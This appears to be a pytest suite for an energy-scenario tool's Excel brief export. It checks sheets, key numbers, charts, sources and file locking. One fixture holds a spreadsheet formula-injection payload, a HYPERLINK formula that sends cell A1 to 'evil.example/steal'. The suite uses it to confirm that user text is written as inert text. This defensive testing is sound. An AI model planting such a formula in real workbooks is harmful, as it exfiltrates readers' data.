"""The Excel brief, read back as a reader (and a hostile reviewer) would meet it."""
import math
import os

import pytest
from openpyxl import Workbook, load_workbook

import workbench.io.atomic as atomic
from workbench.core.errors import ExportError
from workbench.core.project import Scenario, resolve
from workbench.io.excel import KEY_NUMBERS, write_brief
from workbench.io.excel_cells import CUT_MARK, EXCEL_TEXT_LIMIT, put
from workbench.models.evaluate import evaluate

SHEETS = ["Cover", "Key numbers", "Scenarios", "What changed", "Assumptions", "Large loads", "Tariffs", "Grid",
          "Charts", "Evidence", "Sources"]
HOSTILE = '=HYPERLINK("http://evil.example/steal?"&A1,"Click for the full data")'


@pytest.fixture(scope="module")
def brief(example_session, tmp_path_factory):
    project = example_session.project.with_scenario(
        Scenario("Hostile note", "Government proposal", {"pkr_per_usd": 300.0},
                 notes=HOSTILE + "\x07 bell and \x1b escape"))
    project = project.with_scenario(Scenario("@SUM(1+1)", "No allocation", {}))
    names = ["No allocation", "Government proposal", "Stress", "Hostile note", "@SUM(1+1)"]
    results = [evaluate(resolve(project, n, example_session.catalogue), example_session.dataset, frames=True)
               for n in names]
    path = tmp_path_factory.mktemp("brief") / "brief.xlsx"
    write_brief(str(path), project, example_session.catalogue, example_session.dataset, results)
    return load_workbook(path), results, path


def test_every_sheet_is_present_in_order(brief):
    wb, _, _ = brief
    assert wb.sheetnames == SHEETS


def test_key_numbers_equal_the_engine_and_are_numbers(brief):
    wb, results, _ = brief
    ws = wb["Key numbers"]
    header = [c.value for c in ws[4]]
    rows = {ws.cell(row=r, column=1).value: r for r in range(5, 5 + len(KEY_NUMBERS))}
    for h in KEY_NUMBERS:
        r = rows[h.label]
        assert ws.cell(row=r, column=2).value == h.unit
        for j, result in enumerate(results):
            col = header.index(result.name) + 1
            cell = ws.cell(row=r, column=col)
            if h.key in result.key_results:
                assert cell.data_type == "n", (h.key, result.name)
                assert cell.value == pytest.approx(result.key_results[h.key], rel=1e-12, abs=1e-12)
                assert "#,##0" in cell.number_format
            else:  # no new loads: the measure does not exist, said explicitly
                assert cell.value == "n/a"
    # Red lines: the stress case's negative contribution is marked FAIL next to its number.
    stress_col = header.index("Stress") + 1
    contribution = rows["New loads' contribution to fixed cost"]
    assert ws.cell(row=contribution, column=stress_col).value < 0
    assert ws.cell(row=contribution, column=stress_col + 1).value == "FAIL"
    gov_col = header.index("Government proposal") + 1
    assert ws.cell(row=contribution, column=gov_col + 1).value == "pass"


def test_defined_name_covers_the_key_number_table(brief):
    wb, results, _ = brief
    name = wb.defined_names["KeyNumbers"]
    (sheet, ref), = list(name.destinations)
    assert sheet == "Key numbers"
    last_col = chr(ord("A") + 2 + 2 * len(results))  # headline, unit, red line, then value and verdict each
    assert ref == f"$A$4:${last_col}${4 + len(KEY_NUMBERS)}"


def test_user_text_is_never_a_formula(brief):
    wb, _, _ = brief
    found = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.lstrip().startswith(("=", "@", "+", "-")):
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and "HYPERLINK" in cell.value:
                    found += 1
                    assert cell.data_type == "s"
                    assert cell.quotePrefix or not cell.value.startswith(("=", "@", "+", "-"))
                    assert "\x07" not in cell.value and "\x1b" not in cell.value  # control characters removed
    assert found >= 1  # the hostile note reached the brief (the Scenarios sheet) as inert text


def test_charts_are_native_and_reference_the_right_ranges(brief):
    wb, results, _ = brief
    ws = wb["Charts"]
    charts = ws._charts
    with_loads = [r for r in results if r.key_results.get("large_load_requested_gwh", 0) > 0]
    # The driver bars, then a generation and a spare-capacity chart for every scenario with new loads.
    assert len(charts) == 1 + 2 * len(with_loads)
    drivers = charts[0]
    assert len(drivers.series) == len(with_loads)
    assert all(s.val.numRef.f.startswith("'Charts'!$") for s in drivers.series)
    # The driver chart's last bar is the total, equal to the key number.
    last = drivers.series[0].val.numRef.f.split("!")[1].replace("$", "").split(":")[1]
    assert ws[f"A{last[1:]}"].value == "Total change"
    assert ws[last].value == pytest.approx(with_loads[0].key_results["uniform_tariff_change_pkr_per_kwh"])
    grid = wb["Grid"]
    for k, result in enumerate(with_loads):
        generation, headroom = charts[1 + 2 * k], charts[2 + 2 * k]
        assert result.name in generation.title.tx.rich.p[0].r[0].t and result.name in headroom.title.tx.rich.p[0].r[0].t
        refs = [s.val.numRef.f for s in generation.series]
        assert len(refs) == 11 and all(r.startswith("'Grid'!$") for r in refs)
        col = refs[0].split("!")[1].replace("$", "").split(":")[0][0]
        header_row = int(refs[0].split("$")[2].split(":")[0]) - 1
        assert grid[f"{col}{header_row}"].value == "Hydro"
        assert grid.cell(header_row - 1, 1).value == f"{result.name}, FY{int(result.key_results['fy'])}"
        assert grid[f"A{header_row + 1}"].value == "Jul" and grid[f"A{header_row + 12}"].value == "Jun"
        # Spare capacity: the table on the Charts sheet, equal to the monthly results, its range named beside it.
        first = int(headroom.series[0].val.numRef.f.split("$")[2].split(":")[0])
        monthly = result.frames["monthly"]
        monthly = monthly[monthly["fy"] == result.key_results["fy"]].set_index("month")
        assert ws[f"A{first}"].value == "Jul"
        assert ws[f"C{first}"].value == pytest.approx(monthly.at["jul", "min_headroom_after_mw"])
        note = ws[f"A{first - 3}"].value
        assert note.startswith("Chart data:") and f"A{first - 1}:C{first + 11}" in note


def test_surplus_table_has_a_colour_scale(brief):
    wb, results, _ = brief
    ws = wb["Grid"]
    ranges = [str(rng.sqref) for rng in ws.conditional_formatting]
    with_loads = [r for r in results if r.key_results.get("large_load_requested_gwh", 0) > 0]
    assert len(ranges) == len(with_loads)
    for rng in ranges:
        first = int(rng.split(":")[0][1:])
        assert ws.cell(first - 1, 1).value == "Hour" and rng.startswith("B") and rng.split(":")[1][0] == "M"


def test_panes_print_setup_and_formats(brief):
    wb, _, _ = brief
    for ws in wb.worksheets:
        assert ws.page_setup.orientation == "landscape", ws.title
        assert ws.page_setup.fitToWidth == 1 and ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
        assert ws.print_title_rows, ws.title
    assert wb["Key numbers"].freeze_panes == "D5"
    assert wb["Assumptions"].freeze_panes == "D5"
    tariffs = wb["Tariffs"]
    assert tariffs["C5"].number_format == "#,##0.00;-#,##0.00" and tariffs["C5"].data_type == "n"


def test_assumptions_show_every_parameter_with_source_and_origin(brief, example_session):
    wb, results, _ = brief
    ws = wb["Assumptions"]
    labels = [ws.cell(row=r, column=2).value for r in range(5, 5 + len(list(example_session.catalogue)))]
    assert labels == [p.label for p in example_session.catalogue]
    header = [c.value for c in ws[4]]
    assert header == ["Group", "Assumption", "Unit", *[r.name for r in results], "Source", "Basis", "Confidence"]
    stress, gov = header.index("Stress") + 1, header.index("Government proposal") + 1
    row = 5 + labels.index("Exchange rate")
    # Set in Stress: bold, with Stress's note as a comment; the data set's default elsewhere: plain.
    assert ws.cell(row=row, column=stress).value == 330.0 and ws.cell(row=row, column=stress).font.b
    assert ws.cell(row=row, column=stress).comment.text.startswith("Set in scenario 'Stress'")
    assert ws.cell(row=row, column=gov).value == 280.0
    assert not ws.cell(row=row, column=gov).font.b and ws.cell(row=row, column=gov).comment is None
    assert "Pakbanker" in ws.cell(row=row, column=header.index("Source") + 1).value


def test_what_changed_lists_overrides_against_the_parent(brief):
    wb, _, _ = brief
    ws = wb["What changed"]
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=5, values_only=False)]
    stress = [r for r in rows if r[0] == "Stress"]
    assert {r[2] for r in stress} == {"Exchange rate", "RLNG price", "Hydrology (1 = FY2025)",
                                      "Suppressed summer demand"}
    fx = next(r for r in stress if r[2] == "Exchange rate")
    assert (fx[4], fx[5]) == (280.0, 330.0)


def test_sources_sheet_cites_every_source(brief, example_session):
    wb, _, _ = brief
    ws = wb["Sources"]
    ids = {ws.cell(row=r, column=1).value for r in range(5, ws.max_row + 1)}
    assert set(example_session.dataset.sources) <= ids


def test_nan_is_refused_with_the_value_named_or_written_as_na_by_design():
    ws = Workbook().active
    with pytest.raises(ExportError, match="Stress: uniform tariff.*nan"):
        put(ws["A1"], math.nan, where="Stress: uniform tariff")
    with pytest.raises(ExportError, match="inf"):
        put(ws["A1"], math.inf)
    assert put(ws["A2"], math.nan, missing_ok=True).value == "n/a"


def test_overlong_text_is_cut_with_a_visible_marker():
    ws = Workbook().active
    cell = put(ws["A1"], "x" * 40_000)
    assert len(cell.value) == EXCEL_TEXT_LIMIT and cell.value.endswith(CUT_MARK)


def test_locked_target_gives_a_clear_message_and_keeps_the_old_file(brief, example_session, tmp_path,
                                                                    monkeypatch):
    _, results, _ = brief
    target = tmp_path / "brief.xlsx"
    target.write_bytes(b"previous brief")
    monkeypatch.setattr(atomic, "RETRY_DELAY_S", 0)
    monkeypatch.setattr(atomic, "LOCKS_OPEN_FILES", True)  # as on Windows

    def locked(src, dst):
        raise PermissionError(13, "locked")
    monkeypatch.setattr(os, "replace", locked)
    with pytest.raises(ExportError, match="locked by another program.*nothing was written"):
        write_brief(str(target), example_session.project, example_session.catalogue, example_session.dataset,
                    results[:2])
    assert target.read_bytes() == b"previous brief"
    assert [p.name for p in tmp_path.iterdir()] == ["brief.xlsx"]  # no temporary file left behind


def test_cli_writes_the_brief(tmp_path):
    import subprocess
    import sys
    from pathlib import Path
    root = Path(__file__).resolve().parents[1]
    out = tmp_path / "brief.xlsx"
    done = subprocess.run([sys.executable, str(root / "main.py"), "run", str(root / "scenarios/pakistan-2000mw.wbproj"),
                           "--xlsx", str(out)], capture_output=True, text=True, timeout=120, cwd=root)
    assert done.returncode == 0, done.stderr
    assert load_workbook(out).sheetnames == SHEETS


def test_scenarios_starting_in_different_years(example_session, tmp_path):
    project = example_session.project.with_scenario(
        Scenario("Later", "Government proposal", {"study_first_fy": 2028}))
    names = ["Government proposal", "Later"]
    results = [evaluate(resolve(project, n, example_session.catalogue), example_session.dataset, frames=True)
               for n in names]
    path = tmp_path / "brief.xlsx"
    write_brief(str(path), project, example_session.catalogue, example_session.dataset, results)
    wb = load_workbook(path)
    header = [c.value for c in wb["Key numbers"][4]]
    assert "Government proposal (FY2026)" in header and "Later (FY2028)" in header
    assert wb["Key numbers"]["A1"].value == "Key numbers, first study year of each scenario"
    grid_titles = [wb["Grid"].cell(row=r, column=1).value for r in range(1, wb["Grid"].max_row + 1)]
    assert "Later, FY2028" in grid_titles


def test_red_line_note_reads_each_line_correctly(brief):
    wb, _, _ = brief
    ws = wb["Key numbers"]
    note = next(c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)
                and c.value.startswith("Red lines:"))
    assert "IMF price-gap subsidy at marginal cost must be zero" in note
    assert "contribution to fixed cost must not be negative" in note


def test_a_brief_refuses_results_without_tables(example_session, tmp_path):
    from workbench.io.excel import write_brief
    from workbench.models.evaluate import evaluate
    scenario = resolve(example_session.project, "Government proposal", example_session.catalogue)
    target = tmp_path / "brief.xlsx"
    with pytest.raises(ValueError, match="frames=True"):
        write_brief(str(target), example_session.project, example_session.catalogue, example_session.dataset,
                    [evaluate(scenario, example_session.dataset)])
    assert not target.exists()


def test_charts_use_the_window_colours_for_technologies_and_scenarios(brief, example_session):
    import re
    import zipfile

    from workbench.core.palette import TECHNOLOGY_COLOURS, scenario_colour
    from workbench.io.excel import TECHNOLOGIES
    with zipfile.ZipFile(brief[2]) as book:  # openpyxl does not read charts back: read their XML
        charts = {name: book.read(name).decode() for name in book.namelist() if name.startswith("xl/charts/chart")}

    def fills(xml: str) -> list[str | None]:
        found = [re.search(r'<a:srgbClr val="([0-9A-F]{6})"', ser) for ser in xml.split("<ser>")[1:]]
        return [m.group(1) if m else None for m in found]
    series_fills = [fills(xml) for xml in charts.values()]
    assert [TECHNOLOGY_COLOURS[t] for t in TECHNOLOGIES] in series_fills
    names = example_session.project.names()
    assert any(f and f[0] == scenario_colour(names, "Government proposal") for f in series_fills)


def test_issue16_part5_assumptions_show_basis_confidence_quote_address_and_override_notes(brief, example_session):
    wb, _, _ = brief
    ws = wb["Assumptions"]
    header = [c.value for c in ws[4]]
    col = {name: header.index(name) + 1 for name in ("Basis", "Confidence", "Stress")}
    labels = [ws.cell(row=r, column=2).value for r in range(5, ws.max_row + 1)]
    growth = 5 + labels.index("Demand growth")
    assert ws.cell(growth, col["Basis"]).value == "sourced"
    assert ws.cell(growth, col["Confidence"]).value == "medium"
    # The source's own words and address are on the Evidence sheet, one row per assumption.
    evidence = wb["Evidence"]
    assert [c.value for c in evidence[4]] == ["Assumption", "Unit", "Default", "Year", "Worked out as", "Quote",
                                              "Address"]
    rows = {evidence.cell(r, 1).value: r for r in range(5, evidence.max_row + 1)}
    assert list(rows) == [p.label for p in example_session.catalogue]
    assert "2.8%" in evidence.cell(rows["Demand growth"], 6).value
    assert evidence.cell(rows["RLNG price"], 7).value.startswith("https://www.brecorder.com/")
    # An override names its scenario and carries the scenario's note, as a comment on the value.
    value = ws.cell(row=5 + labels.index("Exchange rate"), column=col["Stress"])
    note = example_session.project.scenario("Stress").notes
    assert value.comment.text.startswith("Set in scenario 'Stress': " + " ".join(note.split())[:40])
    hostile = ws.cell(row=5 + labels.index("Exchange rate"), column=header.index("Hostile note") + 1)
    assert "\x07" not in hostile.comment.text and hostile.comment.text.startswith("Set in scenario 'Hostile note'")


def test_evidence_shows_how_a_derived_default_was_worked_out_with_the_values_it_uses(brief, example_session):
    """A formula names other data-set values by key; the reader sees each replaced by its value and
    unit, so the arithmetic can be checked with a pocket calculator."""
    wb, _, _ = brief
    ws = wb["Evidence"]
    rows = {ws.cell(r, 1).value: r for r in range(5, ws.max_row + 1)}
    p = next(q for q in example_session.catalogue if q.label == "Imported coal price (delivered)")
    text = ws.cell(rows[p.label], 5).value
    assert p.formula.startswith("15.16 / {finance.pkr_per_usd}")
    fx = example_session.dataset.datum("finance.pkr_per_usd")
    assert text.startswith(f"15.16 / [{fx.value:.0f} {fx.unit}] / (")
    assert "{" not in text and "}" not in text


def test_issue16_part5_sources_sheet_gives_locators_and_counts_by_basis(brief, example_session):
    wb, _, _ = brief
    ws = wb["Sources"]
    header = [c.value for c in ws[4]]
    assert header == ["Id", "Citation", "Address", "Document, page and date", "Sourced", "Derived", "Estimate",
                      "Also cited for"]
    rows = {ws.cell(r, 1).value: [ws.cell(r, c).value for c in range(1, 8)] for r in range(5, ws.max_row + 1)}
    dataset = example_session.dataset
    for sid, row in rows.items():
        cited = [d for d in dataset.values.values() if sid in d.source.split(";")]
        assert row[4:] == [sum(d.basis == b for d in cited) for b in ("sourced", "derived", "estimate")], sid
        assert row[2] or row[3], sid
    assert sum(r[4] for r in rows.values()) >= sum(d.basis == "sourced" for d in dataset.values.values())
    # A source no value cites says what it is cited for (the capacity pipeline's projects), never a bare 0.
    for r in range(5, ws.max_row + 1):
        if not any(ws.cell(r, c).value for c in (5, 6, 7)):
            projects = int((dataset.pipeline["source"] == ws.cell(r, 1).value).sum())
            assert ws.cell(r, 8).value == (f"{projects} projects of the capacity pipeline" if projects > 1 else
                                           ws.cell(r, 8).value), ws.cell(r, 1).value
            assert ws.cell(r, 8).value
